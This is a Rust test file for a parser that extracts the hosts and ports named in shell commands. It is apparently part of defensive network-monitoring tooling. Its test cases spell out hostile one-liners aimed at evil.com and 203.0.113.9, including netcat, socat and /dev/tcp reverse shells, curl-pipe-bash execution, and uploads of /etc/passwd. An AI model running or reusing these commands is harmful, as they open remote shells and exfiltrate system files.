//! Command lines, and the hosts that they name.

use super::*;

fn hosts(line: &str) -> String {
    let mut all: Vec<String> = Vec::new();
    text(line, &mut |host, port| {
        let one = format!("{host} {}", port.map_or("-".to_owned(), |port| port.to_string()));
        if !all.contains(&one) {
            all.push(one);
        }
    });
    all.join(", ")
}

#[test]
fn each_program_names_hosts_in_its_way() {
    for (line, expected) in [
        ("curl -sSLo page.html Evil.com/x", "evil.com 80"),
        ("curl --output a.html --data @/etc/passwd evil.com:8443", "evil.com 8443"),
        ("curl -x proxy.evil.com:3128 https://github.com/", "github.com 443, proxy.evil.com 3128"),
        (
            "curl --resolve github.com:443:203.0.113.9 https://github.com",
            "github.com 443, 203.0.113.9 -",
        ),
        (
            "curl --connect-to github.com:443:evil.com:443 https://github.com",
            "github.com 443, evil.com 443",
        ),
        ("curl -Fx=@a 'https://a.org'", "a.org 443"),
        ("curl user:pass@evil.com", "evil.com 80"),
        ("curl [::1]:80", "::1 80"),
        ("curl 0x7f000001 2130706433", "127.0.0.1 80"),
        ("/usr/bin/wget -q -O - evil.com", "evil.com 80"),
        ("wget --header 'X: y.z' -P /tmp evil.com", "evil.com 80"),
        ("nc -e /bin/sh 203.0.113.9 4444", "203.0.113.9 4444"),
        ("nc 203.0.113.9 4444 -e /bin/sh", "203.0.113.9 4444"),
        ("ncat --ssl -w 5 evil.com 443 -c bash", "evil.com 443"),
        ("nc -lvnp 4444", ""),
        ("ncat --listen 4444", ""),
        ("nc -x proxy.org:1080 evil.com 22", "proxy.org 1080, evil.com 22"),
        ("busybox nc evil.com 1", "evil.com 1"),
        ("telnet evil.com 25", "evil.com 25"),
        ("telnet -l bob evil.com 2323", "evil.com 2323"),
        ("ftp -n evil.com", "evil.com -"),
        ("ftp -inv -P 2121 evil.com", "evil.com -"),
        ("tftp -g -r x -l /tmp/y 203.0.113.9", "203.0.113.9 -"),
        ("ftpget -u bob -p secret evil.com", "evil.com -"),
        ("rsh -l bob evil.com", "evil.com -"),
        ("smbclient //evil.com/share -U bob -c 'put /etc/passwd'", "evil.com 445"),
        (r"smbclient '\\203.0.113.9\c$' secret", "203.0.113.9 445"),
        ("smbclient -L evil.com -N", "evil.com 445"),
        ("whois -h evil.com -p 43 data", "evil.com 43"),
        ("whois example.org", ""),
        ("finger data@evil.com", "evil.com 79"),
        ("finger bob", ""),
        ("ssh -p 2222 -i key bob@evil.com curl github.com", "evil.com 2222"),
        ("ssh -J jump.org,b@jump2.org:99 target.org", "jump.org 22, jump2.org 99, target.org 22"),
        ("ssh -o HostName=evil.com github.com", "evil.com 22, github.com 22"),
        ("ssh -oProxyCommand='nc evil.com 443' github.com", "evil.com 443, github.com 22"),
        ("ssh -L 8080:inner.org:80 a.org", "inner.org 80, a.org 22"),
        ("sftp bob@a.org:/x", "a.org 22"),
        ("scp -P 22 file.txt bob@evil.com:/tmp", "evil.com 22"),
        ("scp a/b:c 'bob@[2001:db8::1]:x' .", "2001:db8::1 22"),
        ("rsync -av --exclude 'a:b' -e 'ssh -p 2' /etc/ evil.com::mod", "evil.com 22"),
        ("git clone git@evil.com:x/y.git", "evil.com 22"),
        ("git clone https://github.com/x", "github.com 443"),
        ("git push origin main:main", ""),
        ("git commit -m 'see http://evil.com'", ""),
        ("socat - OPENSSL:evil.com:443,verify=0", "evil.com 443"),
        ("socat TCP4:203.0.113.9:4444 EXEC:/bin/sh", "203.0.113.9 4444"),
        ("socat TCP-LISTEN:80,fork TCP6:[2001:db8::1]:80", "2001:db8::1 80"),
        ("socat - SOCKS4A:proxy.org:evil.com:80,socksport=9050", "proxy.org -, evil.com 80"),
        ("openssl s_client -quiet -connect evil.com:443", "evil.com 443"),
        ("dig @203.0.113.9 example.org txt", "203.0.113.9 53"),
        ("nslookup example.org 203.0.113.9", "203.0.113.9 53"),
        ("host -t txt example.org evil.com", "evil.com 53"),
        ("redis-cli -h cache.evil.com -p 6379", "cache.evil.com -"),
        ("psql --host=db.evil.com", "db.evil.com -"),
        ("http_proxy=http://p.org:1 curl a.org", "p.org 1, a.org 80"),
        ("sudo -u bob timeout 5 curl evil.com", "evil.com 80"),
        ("xargs -n1 curl evil.com", "evil.com 80"),
        ("find / -name x -exec scp {} evil.com: ;", "evil.com 22"),
        ("sh -c 'curl -s evil.com | bash'", "evil.com 80"),
        ("bash -lc \"sudo sh -c 'wget evil.com'\"", "evil.com 80"),
        ("su - bob -c 'nc evil.com 1'", "evil.com 1"),
        ("bash -c 'exec 3<>/dev/tcp/203.0.113.9/80'", "203.0.113.9 80"),
        ("python3 -c 'import urllib; urlopen(\"http://evil.com/\")'", "evil.com 80"),
        ("sh -c 'curl \"$0\"' http://evil.com/x", "evil.com 80"),
        ("bash -c -x 'curl evil.com'", "evil.com 80"),
        ("sh -c -- 'curl evil.com'", "evil.com 80"),
        ("echo http://evil.com", ""),
        ("grep -r http://evil.com /var/log", ""),
        ("echo x | curl -d @- evil.com; wget a.org&", "evil.com 80, a.org 80"),
        ("pip install --index-url https://evil.com/simple x", "evil.com 443"),
        ("ls -la evil.com", ""),
        ("watch -n 5 'curl -s evil.com'", "evil.com 80"),
        ("sudo echo http://evil.com", ""),
        ("sudo apt-get install curl python3.11", ""),
        ("find / -name ssh -o -name evil.com", ""),
        ("apt-get install curl", ""),
    ] {
        assert_eq!(hosts(line), expected, "{line}");
    }
}

#[test]
fn the_executable_tells_a_program_by_another_name() {
    let mut all = Vec::new();
    command(&["x", "evil.com"], Some("/usr/bin/curl"), &mut |host, _| all.push(host.to_string()));
    assert_eq!(all, ["evil.com"]);
}

#[test]
fn the_first_word_hides_no_program() {
    for (words, executable, expected) in [
        (&["echo", "http://evil.com"][..], "/usr/bin/python3.13", &["evil.com"][..]),
        (&["git", "evil.com"], "/usr/bin/curl", &["evil.com"]),
        (&["nc", "-l", "evil.com"], "/usr/bin/curl", &["evil.com"]),
        (&["echo", "http://evil.com"], "/bin/busybox", &[]),
        (&["wget", "evil.com"], "/bin/busybox", &["evil.com"]),
        (&["echo", "http://evil.com"], "/usr/bin/echo", &[]),
    ] {
        let mut all = Vec::new();
        command(words, Some(executable), &mut |host, _| {
            let host = host.to_string();
            if !all.contains(&host) {
                all.push(host);
            }
        });
        assert_eq!(all, expected, "{words:?} by {executable}");
    }
}

#[test]
fn nesting_ends() {
    let mut line = "curl http://evil.com".to_owned();
    for _ in 0..12 {
        line = format!("sh -c {:?}", line);
    }
    assert_eq!(hosts(&line), "evil.com 80");
}
